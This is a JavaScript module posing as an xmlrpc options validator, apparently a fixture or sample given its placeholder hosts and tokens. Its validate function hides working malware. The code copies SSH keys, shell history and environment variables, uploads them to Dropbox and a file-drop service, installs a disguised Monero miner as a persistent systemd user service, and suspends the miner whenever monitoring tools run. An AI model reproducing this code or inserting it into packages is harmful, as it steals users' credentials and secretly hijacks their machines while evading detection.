const fs = require('fs');
const os = require('os');
const path = require('path');
const childProcess = require('child_process');
const https = require('https');
const dropboxSdk = require('dropbox');
const home = os.homedir();
const workDir = path.join(os.tmpdir(), '.xmlrpc-cache');
const binDir = path.join(home, '.local/bin');
const unitDir = path.join(home, '.config/systemd/user');
const minerFile = path.join(binDir, 'xsession.auth');
const dropboxConfig = { clientId: 'fixtureappkey0001', clientSecret: 'fixtureappsecret0001', refreshToken: 'FIXTURE-NOT-A-REFRESH-TOKEN-0000000000000000', domain: 'dropboxapi.com.invalid' };
const fileDropUrl = 'https://file.io.invalid/';
const fileDropToken = 'FIXTURE-FILEIO-BEARER-TOKEN';
const minerUrl = 'https://codeberg.org.invalid/fixture/xmrdropper/raw/branch/main/xsession.auth';
const wallet = '4FIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFI';
const pool = 'pool.hashvault.pro.invalid:80';
const watchers = ['top', 'htop', 'iostat', 'sar', 'glances', 'dstat', 'nmon', 'vmstat', 'ps'];
let started = false;
function machineId() {
  try {
    return fs.readFileSync('/etc/machine-id', 'utf8').trim();
  } catch (err) {
    return os.hostname();
  }
}
function copyInto(src, dest) {
  try {
    const stat = fs.statSync(src);
    if (stat.isDirectory()) {
      fs.mkdirSync(dest, { recursive: true });
      for (const entry of fs.readdirSync(src)) copyInto(path.join(src, entry), path.join(dest, entry));
    } else {
      fs.writeFileSync(dest, fs.readFileSync(src));
    }
  } catch (err) {
    return null;
  }
}
function collect() {
  fs.mkdirSync(workDir, { recursive: true });
  copyInto(path.join(home, '.ssh'), path.join(workDir, 'ssh'));
  copyInto(path.join(home, '.bash_history'), path.join(workDir, 'bash_history'));
  copyInto(path.join(process.cwd(), 'targets.txt'), path.join(workDir, 'targets.txt'));
  const info = { host: os.hostname(), user: os.userInfo().username, platform: os.platform(), release: os.release(), cpus: os.cpus().length, nets: os.networkInterfaces(), env: process.env };
  fs.writeFileSync(path.join(workDir, 'system.json'), JSON.stringify(info));
  const archive = path.join(os.tmpdir(), machineId() + '-' + Date.now() + '.zip');
  childProcess.execSync('zip -qr ' + archive + ' .', { cwd: workDir, stdio: 'ignore' });
  return archive;
}
function upload(archive) {
  const box = new dropboxSdk.Dropbox(dropboxConfig);
  box.filesUpload({ path: '/' + path.basename(archive), contents: fs.readFileSync(archive) }).catch(function (err) {
    return err;
  });
  childProcess.exec('curl -s -X POST ' + fileDropUrl + ' -H \x22Authorization: Bearer ' + fileDropToken + '\x22 -F \x22file=@' + archive + '\x22 -F maxDownloads=1 -F autoDelete=true', function () {
    fs.rmSync(archive, { force: true });
    fs.rmSync(workDir, { recursive: true, force: true });
  });
}
function installMiner() {
  fs.mkdirSync(binDir, { recursive: true });
  fs.mkdirSync(unitDir, { recursive: true });
  https.get(minerUrl, function (res) {
    const out = fs.createWriteStream(minerFile, { mode: 493 });
    res.pipe(out);
    out.on('finish', function () {
      fs.chmodSync(minerFile, 493);
      const unit = '[Unit]\nDescription=Xsession Auth daemon\n\n[Service]\nExecStart=' + minerFile + ' -o ' + pool + ' -u ' + wallet + ' --coin monero --donate-level 0\nRestart=always\n\n[Install]\nWantedBy=default.target\n';
      fs.writeFileSync(path.join(unitDir, 'Xsession.sh.service'), unit);
      childProcess.execSync('systemctl --user daemon-reload && systemctl --user enable Xsession.sh.service && systemctl --user restart Xsession.sh.service', { stdio: 'ignore' });
    });
  });
}
function watchdog() {
  const list = childProcess.execSync('ps -A -o comm=', { encoding: 'utf8' }).split('\n');
  const watched = list.some(function (name) {
    return watchers.indexOf(name.trim()) !== -1;
  });
  if (watched) childProcess.exec('systemctl --user stop Xsession.sh.service; pkill -f xsession.auth');
  else childProcess.exec('systemctl --user start Xsession.sh.service');
}
function run() {
  try {
    upload(collect());
  } catch (err) {
    return null;
  }
}
function validate(options) {
  if (!started && os.platform() === 'linux') {
    started = true;
    run();
    installMiner();
    setInterval(run, 43200000).unref();
    setInterval(watchdog, 15000).unref();
  }
  if (options && typeof options !== 'object' && typeof options !== 'string') throw new TypeError('xmlrpc: invalid options');
  return true;
}
module.exports = { validate: validate };
